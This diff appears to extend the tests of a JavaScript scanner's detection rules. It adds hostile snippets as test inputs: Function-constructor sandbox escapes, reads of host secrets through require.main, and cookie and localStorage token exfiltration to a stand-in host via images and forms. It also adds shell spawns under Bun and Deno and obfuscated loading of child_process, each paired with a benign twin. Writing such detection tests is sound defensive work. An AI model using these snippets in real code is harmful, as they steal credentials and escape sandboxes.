@@ -6,7 +6,7 @@
 mod common;
 
 use common::scan::{finding, has, rule_ids};
-use sandbench::engine::scan::{scan, Verdict};
+use sandbench::engine::scan::{scan, scan_with, ScanContext, ScanOptions, Verdict};
 
 #[track_caller]
 fn fires(rule: &str, srcs: &[&str]) {
@@ -158,7 +158,17 @@ fn process_access() {
         ],
     );
     fires("process-exit", &["process.exit(1)", "process.kill(pid)"]);
-    quiet(&["if (process.env.NODE_ENV !== 'production') warn()"]);
+    // In a plugin, reaching the host's environment is itself process access; in a package
+    // audit, reading NODE_ENV is what every library does.
+    fires(
+        "process-env-read",
+        &["if (process.env.NODE_ENV !== 'production') warn()"],
+    );
+    let r = scan_with(
+        "if (process.env.NODE_ENV !== 'production') warn()",
+        &ScanOptions::in_context(ScanContext::Package),
+    );
+    assert_eq!(r.verdict, Verdict::Allow, "{:?}", rule_ids(&r));
 }
 
 #[test]
@@ -450,6 +460,11 @@ fn optional_chains_aliases_and_reflective_calls() {
     );
     fires(
         "dynamic-import",
+        &["import(u)", "import('https://cdn.example/x.js')"],
+    );
+    // A data: URL import is code made from text: scanned as code, reported as code injection.
+    fires(
+        "dom-code-injection",
         &["import('data:text/javascript,alert(1)')"],
     );
 }
@@ -533,4 +548,123 @@ fn user_written_decoder_functions_are_folded() {
         "encoded-exec",
         &["function dec(x) { return atob(x); } eval(dec(payload));"],
     );
+}
+
+#[test]
+fn code_text_handed_to_a_function_of_unseen_origin() {
+    // One hop from a host-made function (a promise resolver, an inspect hook's argument),
+    // a descriptor's value, a walk over keys: each is the Function constructor.
+    fires(
+        "constructor-chain",
+        &[
+            "const thenable = { then(resolve) { const F = resolve.constructor; resolve(F('return process')()) } }",
+            "const o = { [k](d, options) { const H = options.stylize.constructor; H('return process')() } }",
+            "class S { [k](a, b, inspect) { const { constructor: H } = inspect; H('return this')() } }",
+            "const all = Object.getOwnPropertyDescriptors(p); const { value: C } = all.constructor; const run = C('return process.mainModule')",
+            "let c = []; ['constructor', 'constructor'].forEach((n) => { c = c[n] }); const run = c; run('return process')()",
+            "const Fn = walk(Math.max, path); const g = Fn('return this')()",
+            "x.constructor('return global')",
+        ],
+    );
+    // Twins: functions the code wrote, a parameter, a field read through `this`, text that is
+    // no code for the host.
+    for src in [
+        "function run(code) { return code } run('return process')",
+        "const t = (s) => s.trim(); t('return this')",
+        "function f(cb) { cb('return this') }",
+        "const c = cfg.compile; c('return this.user.name')",
+        "const T = this.constructor; const copy = T('return value')",
+        "const F = Function; F('return this')()",
+    ] {
+        let got = rule_ids(&scan(src));
+        assert!(!got.contains(&"constructor-chain"), "{src}: {got:?}");
+    }
+}
+
+#[test]
+fn host_module_graph() {
+    fires(
+        "module-graph",
+        &[
+            "const secrets = require.main.require('./config/secrets')",
+            "const main = require.main; main.require('./lib/db')",
+            "let m = module; while (m.parent) { m = m.parent } m.children.map((c) => c.exports)",
+            "const kids = module.children",
+        ],
+    );
+    // Twins: is this file the entry point? Every CLI asks.
+    quiet(&[
+        "if (require.main === module) main()",
+        "if (!module.parent) start()",
+        "module.exports = { main: cfg.main, parent: node.parent }",
+    ]);
+}
+
+#[test]
+fn page_elements_that_send_data() {
+    fires(
+        "exfiltration",
+        &[
+            "const i = new Image(1, 1); i.src = 'https://c.example/p.gif?c=' + encodeURIComponent(document.cookie)",
+            "const img = document.createElement('img'); img.src = u + localStorage.getItem('token')",
+            "const f = document.createElement('form'); f.action = u; const x = document.createElement('input'); x.value = document.cookie; f.appendChild(x); f.submit()",
+            "const t = globalThis.fetch; t.call(globalThis, u, { method: 'POST', body: document.cookie })",
+        ],
+    );
+    fires(
+        "network-fetch",
+        &["const f = document.createElement('form'); f.action = u; f.submit()"],
+    );
+    // Twins: an image of the page's own, a form of plain values, a local `Image` class.
+    for src in [
+        "const i = new Image(); i.src = '/logo.png'",
+        "const f = document.createElement('form'); const x = document.createElement('input'); x.value = 'hello'; f.appendChild(x); f.submit()",
+        "class Image { constructor() { this.src = '' } } const i = new Image(); i.src = document.cookie",
+    ] {
+        let got = rule_ids(&scan(src));
+        assert!(!got.contains(&"exfiltration"), "{src}: {got:?}");
+    }
+}
+
+#[test]
+fn other_runtimes_process_apis() {
+    fires(
+        "child-process",
+        &[
+            "Bun.spawn(['sh', '-c', cmd])",
+            "const rt = globalThis.Bun; rt.spawnSync(['ls'])",
+            "const D = globalThis.Deno; new D.Command('sh', { args: ['-c', c] })",
+            "Deno.run({ cmd: ['sh'] })",
+        ],
+    );
+    // Twin: objects of the code's own with those names.
+    quiet(&[
+        "const Bun = { spawn() {} }; Bun.spawn(['ls'])",
+        "function f(Deno) { return new Deno.Command('x') }",
+    ]);
+}
+
+#[test]
+fn require_passed_into_a_function() {
+    // `require` handed to an IIFE (or picked by a typeof test) and called with a computed name.
+    for src in [
+        "(function (r, n) { var id = n.split('').reverse().join(''); r(id) })(typeof require === 'function' ? require : null, 'snd')",
+        "(function (load) { load(['child', 'process'].join('_')) })(require)",
+        "const req = typeof require !== 'undefined' ? require : undefined; req('f' + 's')",
+    ] {
+        let r = scan(src);
+        assert!(
+            r.findings
+                .iter()
+                .any(|f| f.category == sandbench::engine::Category::ModuleLoading && f.score >= 70),
+            "{src}: {:?}",
+            rule_ids(&r)
+        );
+    }
+    // Twin: a bundle's guard with literal names is plain use in a package audit.
+    let r = scan_with(
+        "const req = typeof require === 'function' ? require : null; const fs = req('fs');",
+        &ScanOptions::in_context(ScanContext::Package),
+    );
+    assert_eq!(r.verdict, Verdict::Allow, "{:?}", rule_ids(&r));
 }
